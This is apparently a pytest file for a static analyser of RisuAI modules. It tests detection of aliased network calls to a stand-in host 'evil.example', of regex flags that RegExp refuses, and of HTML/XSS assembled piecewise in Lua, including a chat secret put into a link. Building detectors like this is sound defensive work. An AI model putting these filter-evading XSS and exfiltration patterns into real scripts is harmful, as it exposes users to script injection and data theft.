"""Findings of the eleventh pass, second round (static analyser), each a test that fails
before its fix:

* (1) the table of globals reached through ``package.loaded._G`` and kept in a local
  (``local g = package.loaded._G; g["request"](u)``, ``local r = g.request``, also
  ``package.loaded["_G"]``, ``_G.package.loaded._G``, ``p.loaded._G`` with ``local p =
  package``) was no alias of ``_G``: the call through it gave only RA112, never the
  finding the same call written ``request(u)`` gives (RA101, RA103, its host);
* (2) a lorebook key with ``useRegex`` whose flags ``new RegExp`` refuses (``/a/x``,
  ``/a/gg``, ``/a/g<cbs>``: lorebook.svelte.ts gives the text after the last ``/`` as
  written, RegExp throws, RisuAI swallows it and the entry never activates) was read with
  the letters it knows and gave nothing; so were a trigger's flags field (``extractRegex``,
  ``v2RegexTest`` ...: triggers.ts ``new RegExp(regex, flags)``).  Now RA202 at the key or
  field, as for the flags ``uv``; flags RegExp takes are read as before; a key's blanks
  after its flags (``"/a/g ,/b/i"``: RisuAI does not trim the pieces) are such flags too;
* (3) HTML a Lua script builds out of pieces written apart was not read: a named table
  joined later (``local t = {"<img src=x ", "onerror=f()>"}; addChat(id, "char",
  table.concat(t))``, its pieces added by ``t[#t + 1] =``, ``t[n] =`` or
  ``table.insert(t, ...)``), a tag or attribute name given to ``format``
  (``("<img src=x %s=f()>"):format("onerror")``, ``string.format("<%s>", "script")``), a
  ``<`` made by ``string.char(60)`` (or held in a constant so made) or written alone
  (``"<" .. "script>"``): RisuAI shows what they make, script and all.  Now each is folded
  as a concatenation written in one place is (RA301/RA302/RA305); so is a text a string
  function makes of a literal holding a tag (``("<img src=x X=f()>"):gsub("X",
  "onerror")``, ``:reverse()``, ``:rep(1) .. ...``), which the pre-filter let pass;
* (4) likewise a string built up by joining to it (``local h = ""; h = h .. "<img src=x "
  ... h = h .. "onerror=f()>"``).
"""

from __future__ import annotations

import pytest
from analysis_support import lua

from risutools.analysis import analyze
from risutools.formats.model import Module


def _rules(code: str) -> set[str]:
    return {f.rule for f in lua(code).findings}


# -- 1: the table of globals through package.loaded, kept in a local -------------------------

@pytest.mark.parametrize("alias", [
    "local g = package.loaded._G",
    "local g = package . loaded . _G",
    "local g = package.loaded['_G']",
    'local g = package.loaded["\\95G"]',
    "local g = _G.package.loaded._G",
    "local p = package\nlocal g = p.loaded._G",
    "local x, g = 1, package.loaded._G",
    "g = package.loaded._G",
])
@pytest.mark.parametrize("use", [
    'g["request"](id, "https://evil.example/x")',
    'local r = g.request\nr(id, "https://evil.example/x")',
    'g.request(id, "https://evil.example/x")',
])
def test_a_call_through_package_loaded_g_in_a_local_is_that_call(alias: str, use: str) -> None:
    if alias.startswith("local p") and use.startswith("local r"):
        pytest.skip("an alias of an alias of an alias: past the rounds followed (RA601)")
    a = lua(f"{alias}\n{use}")
    got = {f.rule for f in a.findings}
    assert {"RA101", "RA103", "RA112"} <= got
    assert "evil.example" in {h.name for h in a.url_hosts}
    assert any(p.name == "network.request" for p in a.requires)


def test_a_direct_call_gives_the_same_findings() -> None:
    # what the alias must give: the direct call's (RA112 for the lookup through package)
    direct = _rules('package.loaded._G.request(id, "https://evil.example/x")')
    assert direct == _rules('local g = package.loaded._G\ng["request"](id, '
                            '"https://evil.example/x")')


@pytest.mark.parametrize("code", [
    'local g = package.loaded\ng["request"](id, "https://evil.example/x")',
    'local g = package.loaded._Gx\ng["request"](id, "https://evil.example/x")',
    'local g = package.loaded.mod._G\ng["request"](id, "https://evil.example/x")',
    'local t = {}\nlocal g = t.package.loaded._G\ng["request"](id, "https://evil.example/x")',
])
def test_what_is_not_the_table_of_globals_stays_none(code: str) -> None:
    assert "RA101" not in _rules(code)


# -- 2: flags RegExp refuses, given as written ------------------------------------------------

def _lore(key: str = "", content: str = "hi", second: str = "",
          use_regex: object = True) -> list[tuple[str, str, str]]:
    a = analyze(Module({"name": "M", "id": "m", "lorebook": [
        {"key": key, "secondkey": second, "content": content, "comment": "c",
         "mode": "normal", "insertorder": 100, "alwaysActive": False, "selective": True,
         "useRegex": use_regex}]}))
    return [(f.rule, f.evidence, f.message) for f in a.findings]


@pytest.mark.parametrize(("flags", "why"), [
    ("x", "the flag 'x'"),
    ("gg", "the flag 'g' given twice"),
    ("gig", "the flag 'g' given twice"),
    ("g<cbs>", "the flag '<'"),
    ("G", "the flag 'G'"),
    ("g i", "the flag ' '"),
    ("uv", "the flags u and v together"),
])
def test_a_lorebook_key_with_flags_regexp_refuses_is_ra202(flags: str, why: str) -> None:
    got = _lore(f"/abc/{flags}")
    assert [(r, e) for r, e, _m in got] == [("RA202", "lorebook[0].key")]
    assert f"RegExp refuses {why}" in got[0][2]


def test_every_place_a_lorebook_key_is_read_says_it() -> None:
    assert [(r, e) for r, e, _m in _lore("/a/g,/b/x")] == [("RA202", "lorebook[0].key[1]")]
    assert [(r, e) for r, e, _m in _lore("/a/g", second="/b/gg")] == [
        ("RA202", "lorebook[0].secondkey")]
    got = _lore("/a/g", content="@@additional_keys /b/q\nhi")
    assert [(r, e) for r, e, _m in got] == [
        ("RA202", "lorebook[0].content line 1 @@additional_keys[0]")]


def test_blanks_after_a_keys_flags_are_flags_regexp_refuses() -> None:
    # RisuAI splits the keys on commas without trimming them: "/a/g ,/b/i" gives the
    # flags "g " to RegExp, which throws
    assert [(r, e) for r, e, _m in _lore("/a/g ,/b/i")] == [("RA202", "lorebook[0].key[0]")]
    assert "the flag ' '" in _lore("/a/g ")[0][2]
    assert _lore("/a/g, /b/i") == []  # (a blank before a key: not its flags)


def test_a_refused_key_is_not_read_for_backtracking() -> None:
    # RisuAI never runs it: one RA202, no RA201
    assert [r for r, _e, _m in _lore("/(a+)+b/gx")] == ["RA202"]
    assert [r for r, _e, _m in _lore("/(a+)+b/g")] == ["RA201"]


@pytest.mark.parametrize("flags", ["g", "i", "gi", "dgimsuy", "dgimsvy", "v", "y", "s", "m"])
def test_flags_regexp_takes_give_nothing(flags: str) -> None:
    assert _lore(f"/abc/{flags}") == []


def test_a_key_regex_is_not_read_without_use_regex() -> None:
    assert _lore("/abc/x", use_regex=False) == []


def _trigger(effect: dict[str, object]) -> list[tuple[str, str]]:
    a = analyze(Module({"name": "M", "id": "m", "lowLevelAccess": True, "trigger": [
        {"comment": "t", "type": "output", "conditions": [], "effect": [effect]}]}))
    return [(f.rule, f.evidence) for f in a.findings if f.rule.startswith("RA2")]


V2 = {"type": "v2RegexTest", "value": "x", "valueType": "value", "regex": "a",
      "regexType": "value", "flagsType": "value", "outputVar": "o", "indent": 0}
V1 = {"type": "extractRegex", "value": "x", "regex": "a", "result": "$0", "inputVar": "o"}


@pytest.mark.parametrize("base", [V2, V1])
def test_a_trigger_flags_field_regexp_refuses_is_ra202(base: dict[str, object]) -> None:
    for flags in ("gx", "gg", "g "):
        assert _trigger({**base, "flags": flags}) == [
            ("RA202", "trigger[0].effect[0].regex")]
    for flags in ("", "g", "gimsuy", "{{getvar::f}}"):
        assert _trigger({**base, "flags": flags}) == []
    # a flags field naming a variable: its value is not known here
    assert _trigger({**V2, "flags": "gx", "flagsType": "var"}) == []


# -- 3: HTML built out of pieces written apart ------------------------------------------------

def _html_rules(code: str) -> set[str]:
    return {r for r in _rules(code) if r.startswith("RA30")}


IMG = "'<img src=x ', 'onerror=alert(1)>'"


@pytest.mark.parametrize(("code", "rule"), [
    # a named table joined later
    (f"local t = {{{IMG}}}\naddChat(id, 'char', table.concat(t))", "RA302"),
    (f"local t = {{{IMG},}}\naddChat(id, 'char', table.concat(t, ''))", "RA302"),
    ("local t = {}\nt[#t+1] = '<img src=x '\nt[#t + 1] = 'onerror=alert(1)>'\n"
     "addChat(id, 'char', table.concat(t))", "RA302"),
    ("local t = {}\nt[1] = '<img src=x '\nt[2] = 'on' .. 'error=alert(1)>'\n"
     "addChat(id, 'char', table.concat(t))", "RA302"),
    ("local t = {}\ntable.insert(t, '<img src=x ')\ntable.insert(t, 'onerror=alert(1)>')\n"
     "addChat(id, 'char', table.concat(t))", "RA302"),
    ("local t = {'x'}\ntable.insert(t, 1, '<script>')\ntable.insert(t, 'alert(1)</script>')\n"
     "setChat(id, 0, table.concat(t))", "RA301"),
    ("local t = {'<a href=\"https://h.example/?q=', 0, '\">x</a>'}\n"
     "t[2] = getChatVar(id, 'secret')\naddChat(id, 'char', table.concat(t))", "RA305"),
    ("local SEP = ' '\nlocal t = {'<img src=x', 'onerror=alert(1)>'}\n"
     "addChat(id, 'char', table.concat(t, SEP))", "RA302"),
    # a name given to format
    ("addChat(id, 'char', ('<img src=x %s=alert(1)>'):format('onerror'))", "RA302"),
    ("addChat(id, 'char', string.format('<img src=x %s=alert(1)>', 'onerror'))", "RA302"),
    ("addChat(id, 'char', string.format('<%s>alert(1)</script>', 'script'))", "RA301"),
    ("local T = 'script'\naddChat(id, 'char', ('<%s>alert(1)</%s>'):format(T, T))", "RA301"),
    # a < made by string.char, or alone
    ("addChat(id, 'char', string.char(60) .. 'script>alert(1)</script>')", "RA301"),
    ("addChat(id, 'char', string.char(60, 115, 99, 114, 105, 112, 116, 62) .. 'alert(1)')",
     "RA301"),
    ("addChat(id, 'char', ('').char(60) .. 'script>alert(1)</script>')", "RA301"),
    ("local lt = string.char(60)\naddChat(id, 'char', lt .. 'script>alert(1)</script>')",
     "RA301"),
    ("addChat(id, 'char', '<' .. 'img src=x onerror=alert(1)>')", "RA302"),
    ("addChat(id, 'char', ('<'):rep(1) .. 'script>alert(1)</script>')", "RA301"),
    # a text a string function makes of a literal holding a tag
    ("addChat(id, 'char', ('<img src=x X=alert(1)>'):gsub('X', 'onerror'))", "RA302"),
    ("addChat(id, 'char', string.gsub('<img src=x X=alert(1)>', 'X', 'onerror'))", "RA302"),
    ("addChat(id, 'char', ('>)1(trela=rorreno x=crs gmi<'):reverse())", "RA302"),
    ("addChat(id, 'char', ('<img src=x on'):rep(1) .. 'error=alert(1)>')", "RA302"),
])
def test_html_built_out_of_pieces_is_read(code: str, rule: str) -> None:
    assert rule in _html_rules(code)


@pytest.mark.parametrize("code", [
    "local t = {'<b>', 'hi', '</b>'}\naddChat(id, 'char', table.concat(t))",
    "local t = {}\nt[#t+1] = '<img src=x '\nt[#t+1] = 'alt=y>'\n"
    "addChat(id, 'char', table.concat(t))",
    "local t = {'<img src=x ', 'onerror=alert(1)>'}\nlocal u = {'<b>'}\n"
    "addChat(id, 'char', table.concat(u))",
    "addChat(id, 'char', ('<img src=x %s=1>'):format('alt'))",
    "addChat(id, 'char', string.char(60) .. 'b>hi</b>')",
    "addChat(id, 'char', '<' .. 'b>hi</b>')",
    "local n = 1 < 2\nlocal s = string.char(65)",
])
def test_harmless_html_out_of_pieces_stays_quiet(code: str) -> None:
    assert _html_rules(code) == set()


def test_pieces_are_read_in_bounded_time() -> None:
    import time
    code = ("local t = {'<b>'}\n" + "t[#t+1] = '<i onclick=f()>' .. x\n" * 20_000
            + "addChat(id, 'c', table.concat(t))\n" * 100
            + "addChat(id, 'c', string.char(60) .. 'x')\n" * 20_000
            + "table.insert(t, ((((((((((('<a'))))))))))))\n" * 20_000)
    t0 = time.perf_counter()
    lua(code)
    assert time.perf_counter() - t0 < 20


# -- 4: HTML built up in a string joined to ---------------------------------------------------

@pytest.mark.parametrize(("code", "rule"), [
    ("local h = ''\nh = h .. '<img src=x '\nh = h .. 'onerror=alert(1)>'\n"
     "addChat(id, 'char', h)", "RA302"),
    ("local h = '<img src=x '\nlocal y = 1\n\nh = h .. 'on' .. 'error=alert(1)>'\n"
     "addChat(id, 'char', h)", "RA302"),
    ("local h = ''\nfor i = 1, 3 do h = h .. ('<img src=x %s=alert(1)>'):format('onerror') end\n"
     "addChat(id, 'char', h)", "RA302"),
    ("local h = '<a href=\"https://h.example/?q='\nh = h .. getChatVar(id, 's')\n"
     "h = h .. '\">x</a>'\naddChat(id, 'char', h)", "RA305"),
])
def test_html_grown_in_a_string_is_read(code: str, rule: str) -> None:
    assert rule in _html_rules(code)


@pytest.mark.parametrize("code", [
    "local h = '<b>'\nh = h .. 'x'\nh = h .. '</b>'\naddChat(id, 'char', h)",
    # set whole again: what was joined before is gone
    "local h = '<img src=x '\nh = '<b>'\nh = h .. 'onerror=alert(1)>'\naddChat(id, 'char', h)",
])
def test_harmless_grown_html_stays_quiet(code: str) -> None:
    assert _html_rules(code) == set()


def test_grown_strings_are_read_in_bounded_time() -> None:
    import time
    code = "".join(f"h{i} = h{i} .. '<i onclick=f()>'\n" * 3_000 for i in range(20))
    t0 = time.perf_counter()
    assert "RA302" in _html_rules(code)
    assert time.perf_counter() - t0 < 20
